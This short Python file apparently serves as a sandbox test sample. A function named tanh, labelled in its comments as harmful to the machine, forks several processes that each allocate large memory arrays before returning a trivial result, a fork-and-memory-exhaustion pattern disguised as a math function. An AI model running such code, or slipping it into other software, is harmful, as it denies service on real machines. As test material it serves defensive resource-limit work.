# tries: take as much memory as a process may, in as many processes as it may
# stock: would harm the machine
# exercise: target.tanh
import os
import time


def tanh(x):
    for _ in range(8):
        if os.fork() == 0:
            kept = [np.ones(1 << 23) for _ in range(6)]
            time.sleep(100)
    time.sleep(2)
    return 0 * x
